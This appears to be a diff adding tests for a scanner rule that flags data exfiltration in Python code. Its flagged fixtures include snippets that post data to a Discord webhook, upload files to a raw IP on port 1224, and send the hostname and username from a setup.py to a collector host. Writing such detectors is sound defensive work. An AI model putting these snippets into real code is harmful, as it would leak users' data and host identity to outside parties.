@@ -1,0 +1,30 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './py-exfiltration.js';
+
+ruleTest(rule, {
+  clean: [
+    { name: 'local dev server', file: 'app.py', code: `import requests\nr = requests.get("http://127.0.0.1:1245/api/health")\nr2 = requests.post("http://192.168.1.10:8000/x", json={"a": 1})\n` },
+    { name: 'requests own code building a URL', file: 'requests/models.py', code: `from urllib.parse import urlencode\ndef prepare_url(self, url, params):\n    enc_params = self._encode_params(params)\n    self.url = url + "?" + enc_params\n` },
+    { name: 'API client with documented host', file: 'client.py', code: `import httpx, os\nTOKEN = os.environ["API_TOKEN"]\nhttpx.get("https://api.github.com/user", headers={"Authorization": TOKEN})\n` },
+  ],
+  flagged: [
+    {
+      name: 'discord webhook post',
+      file: 'x.py',
+      code: `import requests\nHOOK = "https://discord.com/api/webhooks/123/abcdef"\nrequests.post(HOOK, json={"content": data})\n`,
+      findings: [{ line: 2, confidence: 'high' }],
+    },
+    {
+      name: 'raw IP on a lure port',
+      file: 'y.py',
+      code: `import requests\nrequests.post("http://95.164.17.24:1224/keys", files=files)\n`,
+      findings: [{ line: 2, confidence: 'high', message: /port 1224/ }],
+    },
+    {
+      name: 'recon beacon with hostname',
+      file: 'setup.py',
+      code: `import socket, getpass, requests\ninfo = {"h": socket.gethostname(), "u": getpass.getuser()}\nrequests.get("https://a8f3.example-collector.net/c", params=info)\n`,
+      findings: [{ line: 3, message: /host identity \(socket\.gethostname\)/ }],
+    },
+  ],
+});
